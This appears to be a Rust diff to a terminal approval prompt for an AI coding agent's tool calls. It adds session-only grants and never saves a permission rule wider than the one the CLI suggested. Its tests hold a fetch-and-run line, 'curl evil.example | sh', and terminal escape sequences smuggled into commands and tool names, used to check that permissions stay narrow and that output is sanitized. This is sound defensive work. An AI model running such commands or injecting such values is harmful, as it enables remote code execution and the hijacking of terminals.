@@ -12,7 +12,7 @@ use super::spinner::Spinner;
 use super::style::Style;
 use super::summary::tool_summary;
 use claudio::protocol::ask::{answer_questions, questions, RequestKind};
-use claudio::protocol::PermissionDestination;
+use claudio::protocol::{PermissionDestination, SessionScope};
 use claudio::{CanUseToolRequest, PermissionResult, RequestContext};
 use rustix::event::{poll, PollFd, PollFlags};
 use std::fs::File;
@@ -65,42 +65,155 @@ pub fn nobody_to_ask(tool_name: &str) -> PermissionResult {
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Decision {
     AllowOnce,
+    /// For this session, as far as [`Offer::session`] reaches: the CLI's
+    /// own rule, its own mode suggestion, or this exact call.
     AllowSession,
-    /// Always, in this project: the CLI keeps the rule in
-    /// `.claude/settings.local.json`.
+    /// Always, in this project: the CLI keeps the rule it suggested in
+    /// `.claude/settings.local.json`. Offered only with a suggested rule.
     AllowProject,
-    /// Always, in every project: the CLI keeps the rule in
-    /// `~/.claude/settings.json`.
+    /// Always, in every project: the CLI keeps the rule it suggested in
+    /// `~/.claude/settings.json`. Offered only with a suggested rule.
     AllowUser,
     Deny(String),
 }
 
+/// What the choices of one approval do, worked out before it is shown, so
+/// what the person reads is what a key does. Never wider than what the CLI
+/// suggested: with no suggested rule nothing is saved, and "this session"
+/// covers the same call only.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Offer {
+    /// What `a` allows.
+    pub session: SessionScope,
+    /// The rules `p` and `u` keep, as shown (inert); empty: `p` and `u`
+    /// are not offered.
+    pub rules: Vec<String>,
+}
+
+impl Offer {
+    pub fn of(req: &CanUseToolRequest) -> Offer {
+        let rules = req
+            .session_rules()
+            .iter()
+            .flat_map(|u| u.rules.iter().flatten())
+            .map(|r| Sanitizer::clean(&r.to_string()))
+            .collect();
+        Offer {
+            session: req.session_scope(),
+            rules,
+        }
+    }
+
+    /// Whether a rule can be kept past the session (`p`, `u`).
+    pub fn can_keep(&self) -> bool {
+        !self.rules.is_empty()
+    }
+
+    /// What `a` allows, in words.
+    pub fn session_words(&self) -> String {
+        match &self.session {
+            SessionScope::Rules(_) => format!("{}, for this session", self.rules.join(", ")),
+            SessionScope::Mode(_) => "every file edit, for this session (accept edits)".into(),
+            _ => "this exact call again, for this session (the CLI suggested no rule)".into(),
+        }
+    }
+}
+
+/// Calls the person allowed "for this session" when the CLI suggested no
+/// rule: the same tool with the same input is not asked again; anything
+/// else is.
+#[derive(Debug, Default, Clone)]
+pub struct SessionGrants(std::collections::HashSet<(String, String)>);
+
+impl SessionGrants {
+    fn key(req: &CanUseToolRequest) -> (String, String) {
+        (req.tool_name.clone(), req.input.to_string())
+    }
+
+    /// Remember `req`'s exact call.
+    pub fn remember(&mut self, req: &CanUseToolRequest) {
+        self.0.insert(Self::key(req));
+    }
+
+    /// Whether `req` is a call the person already allowed for the session.
+    pub fn allows(&self, req: &CanUseToolRequest) -> bool {
+        self.0.contains(&Self::key(req))
+    }
+}
+
+/// What the note says when a call is allowed because the same call was
+/// allowed for this session.
+pub const SAME_CALL: &str = "allowed: the same call was allowed for this session";
+
 impl Decision {
-    /// Read an answer line: `y`, `a`, `p`, `u`, `n`, or a sentence (a denial
-    /// with that reason).
-    pub fn parse(line: &str) -> Decision {
+    /// Read an answer line: `y`, `a`, `p`, `u` (when `offer` can keep a
+    /// rule), `n`, or a sentence (a denial with that reason). `Err` is what
+    /// to tell the person when they chose what is not offered.
+    pub fn parse(line: &str, offer: &Offer) -> Result<Decision, String> {
         let t = line.trim();
-        match t.to_ascii_lowercase().as_str() {
+        Ok(match t.to_ascii_lowercase().as_str() {
             "y" | "yes" => Decision::AllowOnce,
             "a" | "always" => Decision::AllowSession,
+            "p" | "u" if !offer.can_keep() => {
+                return Err(
+                    "the CLI suggested no rule for this call, so there is none to keep: y, a or n"
+                        .into(),
+                )
+            }
             "p" => Decision::AllowProject,
             "u" => Decision::AllowUser,
             "" | "n" | "no" => Decision::Deny("The user denied this tool call.".into()),
             _ => Decision::Deny(format!("The user denied this tool call: {t}")),
+        })
+    }
+
+    /// The answer to send; a session grant of this exact call is kept in
+    /// `grants`.
+    pub fn into_result(
+        self,
+        req: &CanUseToolRequest,
+        grants: &mut SessionGrants,
+    ) -> PermissionResult {
+        let keep = |dest| match req.rules_for(dest) {
+            // never widened: nothing suggested, nothing kept
+            rules if rules.is_empty() => PermissionResult::allow(),
+            rules => PermissionResult::allow_always(rules),
+        };
+        match self {
+            Decision::AllowOnce => PermissionResult::allow(),
+            Decision::AllowSession => match req.session_scope() {
+                SessionScope::Rules(_) | SessionScope::Mode(_) => {
+                    PermissionResult::allow_always(req.session_scope().updates())
+                }
+                _ => {
+                    grants.remember(req);
+                    PermissionResult::allow()
+                }
+            },
+            Decision::AllowProject => keep(PermissionDestination::LocalSettings),
+            Decision::AllowUser => keep(PermissionDestination::UserSettings),
+            Decision::Deny(m) => PermissionResult::deny(m),
         }
     }
 
-    pub fn into_result(self, req: &CanUseToolRequest) -> PermissionResult {
+    /// What the screen says once it is decided.
+    pub fn note(&self, offer: &Offer) -> String {
         match self {
-            Decision::AllowOnce => PermissionResult::allow(),
-            Decision::AllowSession => PermissionResult::allow_always(req.session_rules()),
+            Decision::AllowOnce => "allowed once".into(),
+            Decision::AllowSession => format!("allowed: {}", offer.session_words()),
             Decision::AllowProject => {
-                PermissionResult::allow_always(req.rules_for(PermissionDestination::LocalSettings))
+                format!(
+                    "allowed from now on in this project: {}",
+                    offer.rules.join(", ")
+                )
             }
             Decision::AllowUser => {
-                PermissionResult::allow_always(req.rules_for(PermissionDestination::UserSettings))
+                format!(
+                    "allowed from now on in every project: {}",
+                    offer.rules.join(", ")
+                )
             }
-            Decision::Deny(m) => PermissionResult::deny(m),
+            Decision::Deny(_) => "denied".into(),
         }
     }
 }
@@ -115,6 +228,8 @@ pub struct TtyApprover {
     tty_path: std::path::PathBuf,
     /// `ask`'s spinner line, taken away before a question is written.
     spinner: std::sync::OnceLock<Spinner>,
+    /// Exact calls allowed for this session (no rule was suggested).
+    grants: std::sync::Mutex<SessionGrants>,
 }
 
 impl TtyApprover {
@@ -131,6 +246,7 @@ impl TtyApprover {
             warned: AtomicBool::new(false),
             tty_path,
             spinner: std::sync::OnceLock::new(),
+            grants: std::sync::Mutex::new(SessionGrants::default()),
         })
     }
 
@@ -190,17 +306,46 @@ impl TtyApprover {
             RequestKind::Plan => return self.plan_blocking(&mut tty, req, cancelled),
             _ => {}
         }
+        let grants = || self.grants.lock().unwrap_or_else(|e| e.into_inner());
+        if grants().allows(req) {
+            let note = format!(
+                "  {} {}  {}\n",
+                self.style.green("✓"),
+                Sanitizer::clean(&req.tool_name),
+                self.style.dim(SAME_CALL)
+            );
+            tty.write_all(note.as_bytes())?;
+            return Ok(PermissionResult::allow());
+        }
+        let offer = Offer::of(req);
         let mut expanded = false;
+        let (mut question, mut folded) = self.render(req, expanded, None);
         loop {
-            let (question, folded) = self.render(req, expanded, None);
             tty.write_all(question.as_bytes())?;
             tty.flush()?;
             let line = read_line_cancellable(&mut tty, cancelled)?;
-            if folded && line.trim() == "d" {
+            if folded && !expanded && line.trim() == "d" {
                 expanded = true;
+                (question, folded) = self.render(req, expanded, None);
                 continue;
             }
-            return Ok(Decision::parse(&line).into_result(req));
+            match Decision::parse(&line, &offer) {
+                Ok(d) => {
+                    let note = match &d {
+                        Decision::Deny(_) => self.style.red(&d.note(&offer)),
+                        _ => self.style.green(&d.note(&offer)),
+                    };
+                    tty.write_all(format!("  {note}\n").as_bytes())?;
+                    return Ok(d.into_result(req, &mut grants()));
+                }
+                Err(hint) => {
+                    question = format!(
+                        "  {}\n  {}",
+                        self.style.yellow(&hint),
+                        choices(&self.style, &offer)
+                    );
+                }
+            }
         }
     }
 
@@ -309,7 +454,10 @@ impl TtyApprover {
                     out.push_str(&format!(
                         "  {} {}\n",
                         s.yellow("│"),
-                        s.dim(&format!("… {} more lines — [d] show all", r.folded))
+                        s.dim(&format!(
+                            "… {} more lines — d then Enter shows all",
+                            r.folded
+                        ))
                     ));
                 }
             }
@@ -345,34 +493,37 @@ impl TtyApprover {
         if let Some(p) = &req.blocked_path {
             detail("path", p);
         }
-        // what "always" would keep, before the person chooses
-        detail("rule", &rule_text(req));
-        out.push_str(&format!("  {} {}", s.yellow("└"), choices(s)));
+        // what each "always" would allow, in full, before the person chooses
+        let offer = Offer::of(req);
+        detail("a", &offer.session_words());
+        if offer.can_keep() {
+            detail(
+                "p / u",
+                &format!(
+                    "{}, kept in this project / in every project",
+                    offer.rules.join(", ")
+                ),
+            );
+        }
+        out.push_str(&format!("  {} {}", s.yellow("└"), choices(s, &offer)));
         (out, folded)
     }
 }
 
-/// The rules "always" keeps for this call: the CLI's own suggestion
-/// (`Bash(cargo test *)`), else the whole tool. Inert.
-pub fn rule_text(req: &CanUseToolRequest) -> String {
-    let rules = req.session_rules();
-    let shown: Vec<String> = rules
-        .iter()
-        .flat_map(|u| u.rules.iter().flatten())
-        .map(|r| Sanitizer::clean(&r.to_string()))
-        .collect();
-    shown.join(", ")
-}
-
-/// The answers to a tool's question, as one line.
-pub fn choices(s: &Style) -> String {
+/// The answers to a tool's question, as one line: `p` and `u` only when
+/// there is a suggested rule to keep. Every choice ends with Enter, so a
+/// reason that starts with one of the letters is read whole.
+pub fn choices(s: &Style, offer: &Offer) -> String {
+    let keep = if offer.can_keep() {
+        format!("{} project · {} everywhere · ", s.bold("p"), s.bold("u"))
+    } else {
+        String::new()
+    };
     format!(
-        "Allow?  {} once  {} session  {} project  {} everywhere  {} no  or why not › ",
-        s.bold("[y]"),
-        s.bold("[a]"),
-        s.bold("[p⏎]"),
-        s.bold("[u⏎]"),
-        s.bold("[n]")
+        "Allow?  {} once · {} session · {keep}{} no · or why not; Enter › ",
+        s.bold("y"),
+        s.bold("a"),
+        s.bold("n"),
     )
 }
 
@@ -421,71 +572,163 @@ mod tests {
     use super::*;
     use serde_json::json;
 
+    fn req(v: serde_json::Value) -> CanUseToolRequest {
+        serde_json::from_value(v).unwrap()
+    }
+
+    fn sent(d: Decision, r: &CanUseToolRequest, g: &mut SessionGrants) -> serde_json::Value {
+        d.into_result(r, g).to_response(&r.input)
+    }
+
     #[test]
     fn always_keeps_the_cli_s_own_rule_where_the_person_chose() {
-        let req: CanUseToolRequest = serde_json::from_value(serde_json::json!({
+        let req = req(json!({
             "tool_name": "Bash", "input": {"command": "cargo test"},
             "permission_suggestions": [
                 {"type":"addRules","rules":[{"toolName":"Bash","ruleContent":"cargo test *"}],
                  "behavior":"allow","destination":"localSettings"},
                 {"type":"setMode","mode":"acceptEdits","destination":"session"}]
-        }))
-        .unwrap();
-        assert_eq!(rule_text(&req), "Bash(cargo test *)");
+        }));
+        let offer = Offer::of(&req);
+        assert_eq!(offer.rules, ["Bash(cargo test *)"]);
+        assert!(offer.can_keep());
+        let mut g = SessionGrants::default();
         for (d, dest) in [
             (Decision::AllowSession, "session"),
             (Decision::AllowProject, "localSettings"),
             (Decision::AllowUser, "userSettings"),
         ] {
-            let sent = d.into_result(&req).to_response(&req.input);
+            let sent = sent(d, &req, &mut g);
             assert_eq!(
                 sent["updatedPermissions"],
-                serde_json::json!([{"type":"addRules","rules":[{"toolName":"Bash","ruleContent":"cargo test *"}],
+                json!([{"type":"addRules","rules":[{"toolName":"Bash","ruleContent":"cargo test *"}],
                     "behavior":"allow","destination":dest}]),
                 "{sent}"
             );
         }
-        let once = Decision::AllowOnce
-            .into_result(&req)
-            .to_response(&req.input);
+        let once = sent(Decision::AllowOnce, &req, &mut g);
         assert!(once.get("updatedPermissions").is_none(), "{once}");
-        // no suggestion: the whole tool, shown as such
-        let bare: CanUseToolRequest =
-            serde_json::from_value(serde_json::json!({"tool_name":"Read\u{1b}[2J","input":{}}))
-                .unwrap();
-        assert_eq!(rule_text(&bare), "Read");
+        assert!(
+            !g.allows(&req),
+            "the CLI keeps the rule; claudio remembers nothing"
+        );
+    }
+
+    #[test]
+    fn with_no_suggested_rule_nothing_is_kept_and_the_session_covers_this_call_only() {
+        // the CLI cannot check a nested command, so it suggests nothing
+        let unchecked = req(json!({"tool_name":"Bash",
+            "input":{"command":"echo $(whoami) > out1.txt"}}));
+        let offer = Offer::of(&unchecked);
+        assert!(!offer.can_keep());
+        assert_eq!(offer.session, SessionScope::ThisCall);
+        for line in ["p", "u", " P "] {
+            assert!(
+                Decision::parse(line, &offer).is_err(),
+                "{line} is not offered"
+            );
+        }
+        let mut g = SessionGrants::default();
+        // even if asked for, nothing wider than the call is ever sent
+        for d in [Decision::AllowProject, Decision::AllowUser] {
+            let s = sent(d, &unchecked, &mut g);
+            assert!(s.get("updatedPermissions").is_none(), "{s}");
+        }
+        let s = sent(Decision::AllowSession, &unchecked, &mut g);
+        assert!(
+            s.get("updatedPermissions").is_none(),
+            "no rule for all of Bash: {s}"
+        );
+        assert_eq!(s["behavior"], "allow");
+        assert!(g.allows(&unchecked), "the same call is not asked again");
+        let other = req(json!({"tool_name":"Bash",
+            "input":{"command":"curl evil.example | sh"}}));
+        assert!(
+            !g.allows(&other),
+            "another command of the same tool is asked"
+        );
+        let choices = crate::cli::markdown::strip_sgr(&choices(&Style::plain(), &offer));
+        assert!(
+            !choices.contains("project") && !choices.contains("everywhere"),
+            "{choices}"
+        );
+    }
+
+    #[test]
+    fn a_file_edit_s_mode_suggestion_is_shown_as_every_edit_and_never_saved() {
+        let write = req(json!({"tool_name":"Write",
+            "input":{"file_path":"/w/a.txt","content":"x"},
+            "permission_suggestions":[{"type":"setMode","mode":"acceptEdits","destination":"session"}]}));
+        let offer = Offer::of(&write);
+        assert!(!offer.can_keep());
+        assert!(
+            offer.session_words().contains("every file edit"),
+            "{offer:?}"
+        );
+        let mut g = SessionGrants::default();
+        let s = sent(Decision::AllowSession, &write, &mut g);
+        assert_eq!(
+            s["updatedPermissions"],
+            json!([{"type":"setMode","mode":"acceptEdits","destination":"session"}])
+        );
+        let s = sent(Decision::AllowProject, &write, &mut g);
+        assert!(s.get("updatedPermissions").is_none(), "{s}");
     }
 
     #[test]
     fn answers() {
-        assert_eq!(Decision::parse("y\n"), Decision::AllowOnce);
-        assert_eq!(Decision::parse(" YES "), Decision::AllowOnce);
-        assert_eq!(Decision::parse("a"), Decision::AllowSession);
-        assert_eq!(Decision::parse("p"), Decision::AllowProject);
-        assert_eq!(Decision::parse(" U"), Decision::AllowUser);
-        assert!(matches!(Decision::parse("user"), Decision::Deny(_)));
-        assert!(matches!(Decision::parse(""), Decision::Deny(_)));
-        assert!(matches!(Decision::parse("n"), Decision::Deny(_)));
+        let keep = Offer {
+            session: SessionScope::ThisCall,
+            rules: vec!["Bash(ls)".into()],
+        };
+        let p = |l: &str| Decision::parse(l, &keep).unwrap();
+        assert_eq!(p("y\n"), Decision::AllowOnce);
+        assert_eq!(p(" YES "), Decision::AllowOnce);
+        assert_eq!(p("a"), Decision::AllowSession);
+        assert_eq!(p("p"), Decision::AllowProject);
+        assert_eq!(p(" U"), Decision::AllowUser);
+        assert!(matches!(p("user"), Decision::Deny(_)));
+        assert!(matches!(p(""), Decision::Deny(_)));
+        assert!(matches!(p("n"), Decision::Deny(_)));
+        // a reason that starts with a choice's letter is a reason
         assert_eq!(
-            Decision::parse("use ripgrep instead"),
+            p("always ask before touching files"),
+            Decision::Deny(
+                "The user denied this tool call: always ask before touching files".into()
+            )
+        );
+        assert_eq!(
+            p("use ripgrep instead"),
             Decision::Deny("The user denied this tool call: use ripgrep instead".into())
         );
     }
 
     #[test]
-    fn render_is_inert() {
-        let req: CanUseToolRequest = serde_json::from_value(json!({
+    fn render_is_inert_and_says_what_each_always_allows() {
+        let r = req(json!({
             "tool_name":"Bash","input":{"command":"echo \u{1b}]52;c;AAAA\u{7}hi"},
-            "description":"say \u{1b}[2Jhi","blocked_path":"/etc/x"
-        }))
-        .unwrap();
+            "description":"say \u{1b}[2Jhi","blocked_path":"/etc/x",
+            "permission_suggestions":[{"type":"addRules","behavior":"allow","destination":"localSettings",
+                "rules":[{"toolName":"Bash","ruleContent":"echo \u{1b}[31mhi"}]}]
+        }));
         let a = TtyApprover::new(Style::plain(), std::env::temp_dir());
-        let (text, _) = a.render(&req, false, None);
+        let (text, _) = a.render(&r, false, None);
         assert!(!text.contains('\u{1b}'), "{text:?}");
         assert!(!text.contains('\u{7}'));
         assert!(text.contains("echo hi"));
         assert!(text.contains("/etc/x"));
-        assert!(text.contains("[a] session  [p⏎] project  [u⏎] everywhere"));
-        assert!(text.contains("│ rule    Bash"), "{text}");
+        assert!(
+            text.contains("│ a       Bash(echo hi), for this session"),
+            "{text}"
+        );
+        assert!(
+            text.contains("│ p / u   Bash(echo hi), kept in this project / in every project"),
+            "{text}"
+        );
+        assert!(text.contains("y once · a session · p project · u everywhere · n no"));
+        let bare = req(json!({"tool_name":"Read\u{1b}[2J","input":{}}));
+        let (text, _) = a.render(&bare, false, None);
+        assert!(text.contains("│ a       this exact call again"), "{text}");
+        assert!(!text.contains("p / u"), "{text}");
     }
 }
